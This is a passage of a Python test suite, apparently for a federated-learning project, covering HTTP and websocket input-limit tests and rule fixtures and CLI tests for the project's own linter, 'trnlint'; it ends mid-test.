        r = requests.get(f"http://127.0.0.1:{port}/user",
                         headers={"Authorization": "Bearer töken"})
        assert r.status_code == 401
    finally:
        store.stop()


def test_cors_scalar_string_origin_is_one_origin():
    """A YAML scalar origin must behave as a one-element allowlist, not
    iterate per-character (config-footgun finding)."""
    from vantage6_trn.server.http import HTTPApp, cors_headers

    app = HTTPApp(cors_origins="http://ui.example")
    assert cors_headers(app.cors_origins, "http://ui.example")[
        "Access-Control-Allow-Origin"] == "http://ui.example"
    assert "Access-Control-Allow-Origin" not in cors_headers(
        app.cors_origins, "http://u")


def test_normal_body_still_accepted(small_server):
    resp, data = _post(small_server, "/api/token/user",
                       b'{"username": "root", "password": "pw"}')
    assert resp.status == 200


def test_ws_frame_declaring_oversize_rejected():
    """parse_frame refuses on the declared length before buffering any
    payload, and WSConnection turns that into a closed connection."""
    huge_header = bytes([0x81, 127]) + struct.pack(">Q", 1 << 40)
    with pytest.raises(ValueError, match="limit"):
        v6ws.parse_frame(huge_header + b"x")

    a, b = socket.socketpair()
    try:
        conn = v6ws.WSConnection(b, server_side=True)
        a.sendall(huge_header)  # no payload needed: header is enough
        with pytest.raises(v6ws.WSClosed, match="limit"):
            conn.recv_json(timeout=5)
        assert conn.closed
    finally:
        a.close()
        b.close()


def test_ws_frame_within_limit_passes():
    a, b = socket.socketpair()
    try:
        conn = v6ws.WSConnection(b, server_side=True, max_frame=1024)
        a.sendall(v6ws.encode_frame(v6ws.OP_TEXT, b'{"ok": 1}', mask=True))
        assert conn.recv_json(timeout=5) == {"ok": 1}
        a.sendall(v6ws.encode_frame(v6ws.OP_TEXT, b"x" * 2048, mask=True))
        with pytest.raises(v6ws.WSClosed, match="limit"):
            conn.recv_json(timeout=5)
    finally:
        a.close()
        b.close()
