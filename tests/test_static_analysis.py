"""trnlint (vantage6_trn.analysis) — rule fixtures + repo-wide gate.

One violating + one clean snippet per rule V6L001–V6L009, the ``noqa``
suppression contract, a JSON-reporter golden, CLI exit codes, and the
tier-1 gate: ``vantage6_trn/`` must carry zero unsuppressed findings
and zero unjustified ``# noqa`` pragmas.
"""

from __future__ import annotations

import json
import textwrap
from pathlib import Path

import pytest

from vantage6_trn.analysis import all_rules, analyze_paths, analyze_source
from vantage6_trn.analysis.cli import main as trnlint_main
from vantage6_trn.analysis.reporter import render_json, render_text

REPO_ROOT = Path(__file__).resolve().parent.parent
PACKAGE = REPO_ROOT / "vantage6_trn"


def run(source: str, path: str = "fixture.py", select=None):
    rep = analyze_source(textwrap.dedent(source), path,
                         all_rules(select=select))
    assert rep.error is None, rep.error
    return rep


def rule_ids(rep):
    return [f.rule_id for f in rep.findings]


# ---------------------------------------------------------------- V6L001
VIOLATES_001 = """
    import requests

    def fetch(url):
        return requests.get(url)
"""

CLEAN_001 = """
    import requests
    from vantage6_trn.common.globals import DEFAULT_HTTP_TIMEOUT

    def fetch(url, opts):
        a = requests.get(url, timeout=DEFAULT_HTTP_TIMEOUT)
        b = requests.post(url, timeout=5)
        c = requests.request("GET", url, **opts)  # splat may carry one
        return a, b, c
"""


def test_v6l001_flags_missing_timeout():
    rep = run(VIOLATES_001, select=["V6L001"])
    assert rule_ids(rep) == ["V6L001"]
    assert "timeout" in rep.findings[0].message


def test_v6l001_clean():
    assert rule_ids(run(CLEAN_001, select=["V6L001"])) == []


def test_v6l001_urlopen():
    rep = run("""
        from urllib.request import urlopen
        def f(u):
            return urlopen(u)
    """, select=["V6L001"])
    assert rule_ids(rep) == ["V6L001"]


# ---------------------------------------------------------------- V6L002
VIOLATES_002 = """
    def relay(events):
        for ev in events:
            try:
                handle(ev)
            except Exception:
                continue
"""

CLEAN_002 = """
    import logging
    log = logging.getLogger(__name__)

    def relay(events):
        for ev in events:
            try:
                handle(ev)
            except Exception:
                log.warning("dropping event %s", ev)
            try:
                cleanup(ev)
            except KeyError:
                pass   # narrow type: fine to swallow
"""


def test_v6l002_flags_silent_swallow():
    rep = run(VIOLATES_002, select=["V6L002"])
    assert rule_ids(rep) == ["V6L002"]


def test_v6l002_bare_except():
    rep = run("""
        try:
            x()
        except:
            pass
    """, select=["V6L002"])
    assert rule_ids(rep) == ["V6L002"]
    assert "bare except" in rep.findings[0].message


def test_v6l002_clean():
    assert rule_ids(run(CLEAN_002, select=["V6L002"])) == []


# ---------------------------------------------------------------- V6L003
VIOLATES_003 = """
    import threading

    class Daemon:
        def __init__(self):
            self._lock = threading.Lock()
            self._runs = {}

        def claim(self, run_id, handle):
            with self._lock:
                self._runs[run_id] = handle

        def peek(self, run_id):
            return self._runs.get(run_id)   # off-lock read -> race
"""

CLEAN_003 = """
    import threading

    class Daemon:
        def __init__(self):
            self._lock = threading.Lock()
            self._runs = {}

        def claim(self, run_id, handle):
            with self._lock:
                self._runs[run_id] = handle

        def peek(self, run_id):
            with self._lock:
                return self._runs.get(run_id)
"""


def test_v6l003_flags_offlock_read():
    rep = run(VIOLATES_003, select=["V6L003"])
    assert rule_ids(rep) == ["V6L003"]
    assert "_runs" in rep.findings[0].message
    assert "peek" in rep.findings[0].message


def test_v6l003_clean():
    assert rule_ids(run(CLEAN_003, select=["V6L003"])) == []


def test_v6l003_offlock_write_flagged():
    rep = run("""
        import threading

        class Daemon:
            def __init__(self):
                self._lock = threading.Lock()
                self._seen = set()

            def mark(self, x):
                with self._lock:
                    self._seen.add(x)

            def reset(self):
                self._seen = set()    # off-lock write
    """, select=["V6L003"])
    assert rule_ids(rep) == ["V6L003"]
    assert "written" in rep.findings[0].message


def test_v6l003_init_is_exempt():
    # __init__ writes neither create guards nor violate them
    rep = run("""
        import threading

        class C:
            def __init__(self):
                self._lock = threading.Lock()
                self._n = 0

            def only_reader(self):
                return self._n
    """, select=["V6L003"])
    assert rule_ids(rep) == []


# ---------------------------------------------------------------- V6L004
VIOLATES_004 = """
    import logging
    log = logging.getLogger(__name__)

    def seal(enc_key, data):
        log.debug("sealing with key %s", enc_key)
"""

CLEAN_004 = """
    import logging
    log = logging.getLogger(__name__)

    def seal(enc_key, data):
        log.debug("sealing %d bytes", len(data))
        log.info("token expired; re-authenticating")  # literal is fine
"""


def test_v6l004_flags_secret_arg():
    rep = run(VIOLATES_004, select=["V6L004"])
    assert rule_ids(rep) == ["V6L004"]
    assert "enc_key" in rep.findings[0].message


def test_v6l004_fstring_and_print():
    rep = run("""
        def show(password):
            print(f"credentials: {password}")
    """, select=["V6L004"])
    assert rule_ids(rep) == ["V6L004"]


def test_v6l004_clean():
    assert rule_ids(run(CLEAN_004, select=["V6L004"])) == []


# ---------------------------------------------------------------- V6L005
# path matters: the contract applies to the route surfaces only
VIOLATES_005 = """
    def register(r):
        @r.route("GET", "/health")
        def health(req):
            return {"status": "ok"}
"""

CLEAN_005 = """
    def register(r):
        @r.route("GET", "/health")
        def health(req):
            return 200, {"status": "ok"}

        @r.route("GET", "/ui")
        def ui(req):
            return Response(200, b"<html/>", "text/html")

        def helper(x):
            return x + 1   # not a handler: unconstrained
"""


def test_v6l005_flags_implicit_status():
    rep = run(VIOLATES_005, path="server/resources.py", select=["V6L005"])
    assert rule_ids(rep) == ["V6L005"]


def test_v6l005_clean():
    rep = run(CLEAN_005, path="server/resources.py", select=["V6L005"])
    assert rule_ids(rep) == []


def test_v6l005_scoped_to_route_files():
    # same violating code outside the route surfaces is not flagged
    rep = run(VIOLATES_005, path="somewhere/else.py", select=["V6L005"])
    assert rule_ids(rep) == []


# ---------------------------------------------------------------- V6L006
VIOLATES_006 = """
    def merge(a, cache={}):
        cache[a] = True
        return cache
"""

CLEAN_006 = """
    def merge(a, cache=None):
        cache = {} if cache is None else cache
        cache[a] = True
        return cache
"""


def test_v6l006_flags_mutable_default():
    rep = run(VIOLATES_006, select=["V6L006"])
    assert rule_ids(rep) == ["V6L006"]
    assert "cache" in rep.findings[0].message


def test_v6l006_clean():
    assert rule_ids(run(CLEAN_006, select=["V6L006"])) == []


# ---------------------------------------------------------------- V6L007
VIOLATES_007 = """
    import threading

    def spawn(fn):
        t = threading.Thread(target=fn)
        t.start()
"""

CLEAN_007 = """
    import threading

    def spawn(fn):
        a = threading.Thread(target=fn, daemon=True)
        a.start()
        b = threading.Thread(target=fn)
        b.start()
        b.join()
"""


def test_v6l007_flags_undeclared_thread():
    rep = run(VIOLATES_007, select=["V6L007"])
    assert rule_ids(rep) == ["V6L007"]


def test_v6l007_clean():
    assert rule_ids(run(CLEAN_007, select=["V6L007"])) == []


# ---------------------------------------------------------------- V6L008
VIOLATES_008 = """
    import time

    import requests

    def fetch(url):
        while True:
            try:
                return requests.get(url, timeout=5)
            except ConnectionError:
                time.sleep(1.0)
"""

CLEAN_008 = """
    import time

    import requests

    def fetch(url, policy):
        for attempt in policy.attempts():
            try:
                return requests.get(url, timeout=5)
            except ConnectionError as e:
                attempt.retry(exc=e)

    def pace():
        while True:
            time.sleep(1.0)  # no network call in the loop — pacing only

    def poll(url):
        while True:
            requests.get(url, timeout=5)

            def later():
                time.sleep(9)  # nested function body is not loop code
"""


def test_v6l008_flags_sleep_retry_loop():
    rep = run(VIOLATES_008, select=["V6L008"])
    assert rule_ids(rep) == ["V6L008"]


def test_v6l008_clean():
    assert rule_ids(run(CLEAN_008, select=["V6L008"])) == []


def test_v6l008_noqa_escape_hatch():
    src = VIOLATES_008.replace(
        "time.sleep(1.0)",
        "time.sleep(1.0)  # noqa: V6L008 - reconnect pacing, not a retry",
    )
    rep = run(src, select=["V6L008"])
    assert rule_ids(rep) == []
    assert rep.unjustified_noqa == []


# ---------------------------------------------------------------- V6L009
VIOLATES_009 = """
    import base64

    def send(payload: bytes) -> dict:
        return {"input": base64.b64encode(payload).decode()}
"""

CLEAN_009 = """
    import base64

    from vantage6_trn.common.serialization import blob_to_wire

    def send(payload: bytes, binary: bool) -> dict:
        # payload encoding delegated to the codec
        return {"input": blob_to_wire(payload, encrypted=False,
                                      binary=binary)}

    def decode(value: str) -> bytes:
        return base64.b64decode(value)  # decoding legacy input is fine

    def jwt_segment(data: bytes) -> str:
        # urlsafe flavour is the JWT idiom, never a payload here
        return base64.urlsafe_b64encode(data).decode()
"""


def test_v6l009_flags_payload_base64():
    rep = run(VIOLATES_009, path="node/custom_plugin.py",
              select=["V6L009"])
    assert rule_ids(rep) == ["V6L009"]


def test_v6l009_flags_bare_import_form():
    rep = run("""
        from base64 import b64encode

        def send(payload):
            return {"input": b64encode(payload).decode()}
    """, select=["V6L009"])
    assert rule_ids(rep) == ["V6L009"]


def test_v6l009_clean():
    assert rule_ids(run(CLEAN_009, select=["V6L009"])) == []


def test_v6l009_codec_module_is_exempt():
    """common/ is the sanctioned home of payload base64 (JSON fallback
    of the codec, crypto envelope, protocol handshakes)."""
    for path in ("vantage6_trn/common/serialization.py",
                 "vantage6_trn/common/encryption.py",
                 "common/ws.py"):
        rep = run(VIOLATES_009, path=path, select=["V6L009"])
        assert rule_ids(rep) == [], path


def test_v6l009_noqa_escape_hatch():
    src = VIOLATES_009.replace(
        "base64.b64encode(payload).decode()}",
        "base64.b64encode(payload).decode()}"
        "  # noqa: V6L009 - key material, not a payload",
    )
    rep = run(src, path="node/custom_plugin.py", select=["V6L009"])
    assert rule_ids(rep) == []
    assert rep.unjustified_noqa == []


# ---------------------------------------------------------------- V6L010
VIOLATES_010 = """
    import time

    def handle(do_work):
        t0 = time.time()
        do_work()
        return time.time() - t0
"""

CLEAN_010 = """
    import time

    def handle(do_work):
        t0 = time.monotonic()
        do_work()
        return time.monotonic() - t0

    def cutoff(node_offline_after):
        # one wall-clock side only: computing a cutoff TIMESTAMP to
        # compare against stored last_seen rows — legitimate
        return time.time() - node_offline_after

    def stored(row):
        # both sides are persisted wall-clock stamps, not live readings
        return row["finished_at"] - row["started_at"]
"""


def test_v6l010_flags_wallclock_duration():
    rep = run(VIOLATES_010, select=["V6L010"])
    assert rule_ids(rep) == ["V6L010"]


def test_v6l010_flags_deadline_delta():
    rep = run("""
        import time

        def wait(timeout):
            deadline = time.time() + timeout
            while deadline - time.time() > 0:
                pass
    """, select=["V6L010"])
    assert rule_ids(rep) == ["V6L010"]


def test_v6l010_taint_through_arithmetic():
    rep = run("""
        import time

        def trip():
            start = time.time() + 0.0
            mid = start
            return (time.time() - mid) * 1e3
    """, select=["V6L010"])
    assert rule_ids(rep) == ["V6L010"]


def test_v6l010_clean():
    assert rule_ids(run(CLEAN_010, select=["V6L010"])) == []


def test_v6l010_noqa_escape_hatch():
    src = VIOLATES_010.replace(
        "return time.time() - t0",
        "return time.time() - t0"
        "  # noqa: V6L010 - wall-stamp delta for operator display",
    )
    rep = run(src, select=["V6L010"])
    assert rule_ids(rep) == []
    assert rep.unjustified_noqa == []


# ------------------------------------------------------------- suppression
def test_noqa_suppresses_specific_code():
    rep = run("""
        import requests
        r = requests.get("http://x")  # noqa: V6L001 - fixture: proving suppression works
    """, select=["V6L001"])
    assert rep.findings == []
    assert [f.rule_id for f in rep.suppressed] == ["V6L001"]
    assert rep.unjustified_noqa == []


def test_bare_noqa_suppresses_everything_but_is_unjustified():
    rep = run("""
        import requests
        r = requests.get("http://x")  # noqa
    """, select=["V6L001"])
    assert rep.findings == []
    assert len(rep.suppressed) == 1
    assert rep.unjustified_noqa != []


def test_noqa_for_other_code_does_not_suppress():
    rep = run("""
        import requests
        r = requests.get("http://x")  # noqa: V6L002 - wrong code on purpose
    """, select=["V6L001"])
    assert rule_ids(rep) == ["V6L001"]


# ---------------------------------------------------------------- reporters
def test_json_reporter_golden():
    rep = run(VIOLATES_001, select=["V6L001"])
    doc = json.loads(render_json([rep]))
    assert doc == {
        "version": 2,
        "findings": [
            {
                "path": "fixture.py",
                "line": 5,
                "col": 11,
                "rule_id": "V6L001",
                "severity": "error",
                "message": ("`requests.get` call without timeout= (use "
                            "DEFAULT_HTTP_TIMEOUT from common.globals)"),
            }
        ],
        "counts": {"findings": 1, "suppressed": 0, "files": 1,
                   "errors": 0},
        "errors": [],
    }


def test_text_reporter_shape():
    rep = run(VIOLATES_001, select=["V6L001"])
    text = render_text([rep])
    assert "fixture.py:5:12: V6L001" in text
    assert "1 finding(s)" in text


# ------------------------------------------------------------------- CLI
def test_cli_exit_codes(tmp_path, capsys):
    bad = tmp_path / "bad.py"
    bad.write_text("import requests\nrequests.get('http://x')\n")
    good = tmp_path / "good.py"
    good.write_text("import requests\n"
                    "requests.get('http://x', timeout=5)\n")
    assert trnlint_main([str(bad)]) == 1
    assert trnlint_main([str(good)]) == 0
    assert trnlint_main([str(tmp_path / "missing_dir")]) == 2
    capsys.readouterr()  # drain


def test_cli_list_rules(capsys):
    assert trnlint_main(["--list-rules"]) == 0
    out = capsys.readouterr().out
    for rid in ("V6L001", "V6L002", "V6L003", "V6L004", "V6L005",
                "V6L006", "V6L007", "V6L008", "V6L009", "V6L010",
                "V6L011", "V6L012", "V6L013", "V6L014", "V6L015",
                "V6L016", "V6L017", "V6L018", "V6L019", "V6L020",
                "V6L021", "V6L022", "V6L023", "V6L024", "V6L025",
                "V6L026", "V6L027", "V6L028", "V6L029"):
        assert rid in out


def test_cli_unknown_rule(capsys):
    assert trnlint_main(["--select", "V6L999"]) == 2
    assert trnlint_main(["--ignore", "V6L999"]) == 2
    capsys.readouterr()


def test_cli_ignore_filters_rules(tmp_path, capsys):
    bad = tmp_path / "bad.py"
    bad.write_text("import requests\nrequests.get('http://x')\n")
    assert trnlint_main([str(bad)]) == 1
    assert trnlint_main([str(bad), "--ignore", "V6L001"]) == 0
    capsys.readouterr()


def test_cli_severity_floor(tmp_path, capsys):
    """--severity error drops warning-level findings from the report
    and the exit code (V6L012's snapshot-then-block shape warns)."""
    bad = tmp_path / "bad.py"
    bad.write_text("import requests\nrequests.get('http://x')\n")
    assert trnlint_main([str(bad), "--severity", "error"]) == 1
    good = tmp_path / "good.py"
    good.write_text("import requests\n"
                    "requests.get('http://x', timeout=5)\n")
    assert trnlint_main([str(good), "--severity", "error"]) == 0
    capsys.readouterr()


def test_cli_baseline_round_trip(tmp_path, capsys):
    bad = tmp_path / "bad.py"
    bad.write_text("import requests\n\n"
                   "def fetch():\n"
                   "    requests.get('http://x')\n")
    baseline = tmp_path / "baseline.json"
    assert trnlint_main([str(bad), "--write-baseline",
                         str(baseline)]) == 0
    doc = json.loads(baseline.read_text())
    assert doc["version"] == 1
    (key,) = doc["entries"]
    assert key.startswith("V6L001|") and key.endswith("|fetch")

    # baselined finding is absorbed -> clean exit
    assert trnlint_main([str(bad), "--baseline", str(baseline)]) == 0
    # line drift does not invalidate the baseline (symbol-keyed)
    bad.write_text("import requests\n# a comment pushing lines down\n\n\n"
                   "def fetch():\n"
                   "    requests.get('http://x')\n")
    assert trnlint_main([str(bad), "--baseline", str(baseline)]) == 0
    # a SECOND finding in the same symbol exceeds the count -> dirty
    bad.write_text("import requests\n\n"
                   "def fetch():\n"
                   "    requests.get('http://x')\n"
                   "    requests.get('http://y')\n")
    assert trnlint_main([str(bad), "--baseline", str(baseline)]) == 1
    # unreadable baseline is a usage error
    assert trnlint_main([str(bad), "--baseline",
                         str(tmp_path / "nope.json")]) == 2
    capsys.readouterr()


def test_cli_json_determinism_across_jobs(tmp_path, capsys):
    """Reporter emission order must not depend on worker-thread
    completion order: two full-repo runs at --jobs 4 byte-match."""
    outs = []
    for _ in range(2):
        assert trnlint_main([str(PACKAGE), "--format", "json",
                             "--jobs", "4"]) == 0
        outs.append(capsys.readouterr().out)
    assert outs[0] == outs[1]
    doc = json.loads(outs[0])
    assert doc["counts"]["findings"] == 0


def test_cli_sarif_shape(tmp_path, capsys):
    """--format sarif: a 2.1.0 document with the full rule catalog on
    the driver, one result per finding, parse failures as
    tool-execution notifications."""
    bad = tmp_path / "bad.py"
    bad.write_text("import requests\nrequests.get('http://x')\n")
    assert trnlint_main([str(bad), "--format", "sarif"]) == 1
    doc = json.loads(capsys.readouterr().out)
    assert doc["version"] == "2.1.0"
    assert "sarif-schema-2.1.0" in doc["$schema"]
    (run_,) = doc["runs"]
    driver = run_["tool"]["driver"]
    assert driver["name"] == "trnlint"
    rule_index = {r["id"] for r in driver["rules"]}
    assert {"V6L001", "V6L022", "V6L026"} <= rule_index
    (result,) = run_["results"]
    assert result["ruleId"] == "V6L001"
    assert result["level"] == "error"
    loc = result["locations"][0]["physicalLocation"]
    assert loc["artifactLocation"]["uri"] == str(bad)
    assert loc["region"]["startLine"] == 2
    assert loc["region"]["startColumn"] >= 1
    assert run_["invocations"][0]["executionSuccessful"] is True

    broken = tmp_path / "broken.py"
    broken.write_text("def oops(:\n")
    assert trnlint_main([str(broken), "--format", "sarif"]) == 1
    doc = json.loads(capsys.readouterr().out)
    inv = doc["runs"][0]["invocations"][0]
    assert inv["executionSuccessful"] is False
    (note,) = inv["toolExecutionNotifications"]
    assert note["level"] == "error"
    assert str(broken) in json.dumps(note)


def test_cli_sarif_determinism_across_jobs(capsys):
    """SARIF emission shares the JSON determinism contract: two
    full-repo runs at --jobs 4 byte-match."""
    outs = []
    for _ in range(2):
        assert trnlint_main([str(PACKAGE), "--format", "sarif",
                             "--jobs", "4"]) == 0
        outs.append(capsys.readouterr().out)
    assert outs[0] == outs[1]
    doc = json.loads(outs[0])
    assert doc["runs"][0]["results"] == []


def test_cli_changed_scopes_to_git_dirty_files(tmp_path, capsys,
                                               monkeypatch):
    """--changed analyzes only files git reports as dirty/untracked:
    a committed-clean violation is out of scope, an untracked one is
    found; with everything committed there is nothing to do; outside a
    repository it falls back to a full run."""
    import subprocess

    def git(*argv, cwd):
        subprocess.run(
            ["git", "-c", "user.email=t@t", "-c", "user.name=t", *argv],
            cwd=cwd, check=True, capture_output=True)

    repo = tmp_path / "proj"
    repo.mkdir()
    git("init", "-q", cwd=repo)
    committed = repo / "committed.py"
    committed.write_text("import requests\nrequests.get('http://x')\n")
    git("add", "committed.py", cwd=repo)
    git("commit", "-q", "-m", "seed", cwd=repo)
    dirty = repo / "dirty.py"
    dirty.write_text("import requests\nrequests.get('http://y')\n")

    monkeypatch.chdir(repo)
    assert trnlint_main([".", "--changed", "--format", "json"]) == 1
    doc = json.loads(capsys.readouterr().out)
    assert doc["counts"]["files"] == 1
    assert all(f["path"].endswith("dirty.py")
               for f in doc["findings"])

    git("add", "dirty.py", cwd=repo)
    git("commit", "-q", "-m", "absorb", cwd=repo)
    assert trnlint_main([".", "--changed"]) == 0
    assert "no changed python files" in capsys.readouterr().out

    outside = tmp_path / "plain"
    outside.mkdir()
    loose = outside / "loose.py"
    loose.write_text("import requests\nrequests.get('http://z')\n")
    monkeypatch.chdir(outside)
    monkeypatch.setenv("GIT_CEILING_DIRECTORIES", str(tmp_path))
    assert trnlint_main([".", "--changed", "--format", "json"]) == 1
    captured = capsys.readouterr()
    assert "not a git repository" in captured.err
    doc = json.loads(captured.out)
    assert doc["counts"]["findings"] == 1


KERNEL_BASELINE_SRC = (
    "import requests\n"
    "requests.get('http://x')\n"
    "\n"
    "\n"
    "def tile_k(ctx, tc, nc, x):\n"
    "    pp = ctx.enter_context(\n"
    "        tc.tile_pool(name='ps', bufs=2, space='PSUM'))\n"
    "    sp = ctx.enter_context(tc.tile_pool(name='s', bufs=2))\n"
    "    a = sp.tile([128, 128], mybir.dt.float32)\n"
    "    ps = pp.tile([128, 512], mybir.dt.float32)\n"
    "    nc.tensor.matmul(ps[:], a[:], a[:], start=False, stop=True)\n"
)


def test_cli_baseline_interplay_with_kernel_rules(tmp_path, capsys):
    """A baseline recorded when the kernel rules landed absorbs the
    pre-existing V6L023 debt alongside older rules' findings — but the
    keys are count-aware, so a *new* fencing violation in the same
    kernel still surfaces."""
    mod = tmp_path / "kern.py"
    mod.write_text(KERNEL_BASELINE_SRC)
    baseline = tmp_path / "baseline.json"
    assert trnlint_main([str(mod), "--write-baseline",
                         str(baseline)]) == 0
    keys = json.loads(baseline.read_text())["entries"]
    assert any(k.startswith("V6L001|") for k in keys)
    assert any(k.startswith("V6L023|") for k in keys)

    # the recorded debt is absorbed -> clean exit
    assert trnlint_main([str(mod), "--baseline", str(baseline)]) == 0
    capsys.readouterr()  # drain before the JSON run

    # a second fencing violation in the same kernel exceeds the
    # baselined count and leaks through
    mod.write_text(KERNEL_BASELINE_SRC
                   + "    nc.tensor.matmul(ps[:], a[:], a[:])\n")
    assert trnlint_main([str(mod), "--baseline", str(baseline),
                         "--format", "json"]) == 1
    doc = json.loads(capsys.readouterr().out)
    assert [f["rule_id"] for f in doc["findings"]] == ["V6L023"]


# ------------------------------------------------------------- repo gate
@pytest.fixture(scope="module")
def repo_reports():
    assert PACKAGE.is_dir()
    return analyze_paths([str(PACKAGE)])


def test_repo_is_clean(repo_reports):
    """Tier-1 gate: zero unsuppressed findings over vantage6_trn/."""
    findings = [f for rep in repo_reports for f in rep.findings]
    errors = [rep for rep in repo_reports if rep.error]
    assert not errors, "\n".join(f"{r.path}: {r.error}" for r in errors)
    assert not findings, "\n".join(f.render() for f in findings)


def test_repo_noqa_all_justified(repo_reports):
    """Repo policy: every ``# noqa`` pragma carries a justification."""
    bad = [
        f"{rep.path}:{line}"
        for rep in repo_reports for line in rep.unjustified_noqa
    ]
    assert not bad, f"unjustified # noqa pragmas: {bad}"


# ---------------------------------------------------------------- V6L017
VIOLATES_017 = """
    def fit(client, orgs, weights, rounds):
        for r in range(rounds):
            for item in iter_round(client, orgs=orgs):
                fold(item)
                if item["quorum"]:
                    # eager r+1 dispatch while late results still stream
                    nxt = client.task.create(
                        collaboration=1, organizations=orgs,
                        input_={"weights": weights})
        return nxt
"""

CLEAN_017 = """
    def fit(client, orgs, weights, rounds):
        for r in range(rounds):
            items = []
            for item in iter_round(client, orgs=orgs):
                items.append(fold(item))
            # stream fully drained (iter_round killed the task): the
            # dispatch cannot race a stale result
            task = client.task.create(
                collaboration=1, organizations=orgs,
                input_={"weights": weights})
        return task
"""


def test_v6l017_flags_dispatch_inside_result_loop():
    rep = run(VIOLATES_017, select=["V6L017"])
    assert rule_ids(rep) == ["V6L017"]
    assert "prior round" in rep.findings[0].message


def test_v6l017_clean_after_drain():
    assert rule_ids(run(CLEAN_017, select=["V6L017"])) == []


def test_v6l017_iter_results_method_form():
    """The raw-stream form (``client.iter_results``) counts too, and
    create calls on any object whose chain ends ``.task.create``."""
    rep = run("""
        def drain(client, task_id, orgs):
            for blob in client.iter_results(task_id, raw=True):
                stream.add_payload(blob)
                net.researcher(0).task.create(organizations=orgs)
    """, select=["V6L017"])
    assert rule_ids(rep) == ["V6L017"]


def test_v6l017_nested_def_does_not_count():
    """A closure built while draining runs later — dispatch inside it
    is the *caller's* fencing problem, not this loop's."""
    assert rule_ids(run("""
        def drain(client, task_id):
            cbs = []
            for blob in iter_results(client, task_id):
                def redo():
                    return client.task.create(organizations=[1])
                cbs.append(redo)
            return cbs
    """, select=["V6L017"])) == []


def test_v6l017_non_round_loop_does_not_count():
    assert rule_ids(run("""
        def seed(client, inputs):
            for inp in inputs:
                client.task.create(organizations=[1], input_=inp)
    """, select=["V6L017"])) == []


def test_v6l017_noqa_with_justification():
    src = VIOLATES_017.replace(
        "nxt = client.task.create(",
        "nxt = client.task.create(  "
        "# noqa: V6L017 - attempt-fenced: folds check run attempt ids")
    rep = run(src, select=["V6L017"])
    assert rule_ids(rep) == []
    assert rep.unjustified_noqa == []


# ---------------------------------------------------------------- V6L027
VIOLATES_027 = """
    def run(client, journal, orgs, inp):
        task = client.task.create(
            organizations=orgs, input_=inp)
        journal.dispatch_ack(0, task["id"])
        return task
"""

CLEAN_027 = """
    def run(client, journal, orgs, inp, idem):
        journal.dispatch(0, idem, orgs)
        task = client.task.create(organizations=orgs, input_=inp,
                                  idem_key=idem)
        journal.dispatch_ack(0, task["id"])
        return task
"""


def test_v6l027_flags_create_before_any_journal_write():
    rep = run(VIOLATES_027, select=["V6L027"])
    assert rule_ids(rep) == ["V6L027"]
    assert "preceding journal write" in rep.findings[0].message


def test_v6l027_clean_when_intent_precedes():
    assert rule_ids(run(CLEAN_027, select=["V6L027"])) == []


def test_v6l027_kill_needs_a_record_too():
    rep = run("""
        def reap(client, journal, task_id):
            client.task.kill(task_id)
            journal.kill(0, task_id, "laggard")
    """, select=["V6L027"])
    assert rule_ids(rep) == ["V6L027"]
    assert "task.kill" in rep.findings[0].message


def test_v6l027_reader_calls_do_not_count():
    """``journal.recover()`` proves nothing about the next dispatch —
    only writer methods are the write-ahead record."""
    rep = run("""
        def resume(client, journal, orgs, inp):
            state = journal.recover()
            task = client.task.create(organizations=orgs, input_=inp)
            return task
    """, select=["V6L027"])
    assert rule_ids(rep) == ["V6L027"]


def test_v6l027_journal_free_functions_out_of_scope():
    """Plain engines and bench clients never mention ``journal``."""
    assert rule_ids(run("""
        def seed(client, inputs):
            for inp in inputs:
                client.task.create(organizations=[1], input_=inp)
    """, select=["V6L027"])) == []


def test_v6l027_attribute_rooted_journal_counts():
    assert rule_ids(run("""
        def run(self, client, orgs, inp, idem):
            journal = self.journal
            self.journal.dispatch(0, idem, orgs)
            return client.task.create(organizations=orgs, input_=inp)
    """, select=["V6L027"])) == []


def test_v6l027_nested_def_is_its_own_scope():
    """The closure journals before creating; the outer function's kill
    has its own record — each scope is judged on its own lines."""
    assert rule_ids(run("""
        def engine(client, journal, orgs, inp, idem):
            def dispatch():
                journal.dispatch(0, idem, orgs)
                return client.task.create(organizations=orgs,
                                          input_=inp, idem_key=idem)
            task = dispatch()
            journal.kill(0, task["id"], "teardown")
            client.task.kill(task["id"])
    """, select=["V6L027"])) == []


def test_v6l027_noqa_with_justification():
    src = VIOLATES_027.replace(
        "task = client.task.create(",
        "task = client.task.create(  "
        "# noqa: V6L027 - replay of a journaled intent; the key dedupes")
    rep = run(src, select=["V6L027"])
    assert rule_ids(rep) == []
    assert rep.unjustified_noqa == []


# ---------------------------------------------------------------- V6L028
VIOLATES_028 = """
    def serve(params, cache, toks, pos):
        for _ in range(64):
            logits, cache = decode_step(params, toks, cache, pos=pos,
                                        n_layers=2, n_heads=4)
            toks = np.asarray(jnp.argmax(logits, axis=-1))
            pos = pos + 1
        return toks
"""

CLEAN_028 = """
    def serve(params, cache, toks, pos, steps):
        outs = []
        for _ in range(steps):
            logits, cache = decode_step(params, toks, cache, pos=pos,
                                        n_layers=2, n_heads=4)
            toks = jnp.argmax(logits, axis=-1)
            pos = pos + 1
            outs.append(toks)
        return np.asarray(jnp.stack(outs))
"""


def test_v6l028_flags_per_iteration_sync():
    rep = run(VIOLATES_028, select=["V6L028"])
    assert rule_ids(rep) == ["V6L028"]
    assert "device→host" in rep.findings[0].message


def test_v6l028_clean_when_sync_is_outside_loop():
    assert rule_ids(run(CLEAN_028, select=["V6L028"])) == []


def test_v6l028_block_until_ready_and_device_get_count():
    rep = run("""
        def probe(params, cache, toks, pos):
            while pos < 32:
                logits, cache = decode_step(params, toks, cache, pos=pos,
                                            n_layers=2, n_heads=4)
                logits.block_until_ready()
                host = jax.device_get(logits)
                pos = pos + 1
    """, select=["V6L028"])
    assert [f.rule_id for f in rep.findings] == ["V6L028", "V6L028"]


def test_v6l028_admission_loops_out_of_scope():
    """Per-request ``np.asarray`` around ``prefill_cache`` is the
    natural admission idiom — prompts are host data; only loops that
    drive decode_step/decode_attention are decode loops."""
    assert rule_ids(run("""
        def admit(params, queue, cache):
            while queue:
                req = queue.pop()
                logits, planes = prefill_cache(params, req.prompt,
                                               n_layers=2, n_heads=4)
                first = int(np.asarray(jnp.argmax(logits[0])))
                req.tokens.append(first)
    """, select=["V6L028"])) == []


def test_v6l028_sync_in_nested_def_runs_later():
    """A closure defined inside the loop body executes after the loop
    (or on another thread) — its syncs are not per-iteration syncs."""
    assert rule_ids(run("""
        def serve(params, cache, toks, pos, done):
            for _ in range(8):
                logits, cache = decode_step(params, toks, cache, pos=pos,
                                            n_layers=2, n_heads=4)
                def finalize():
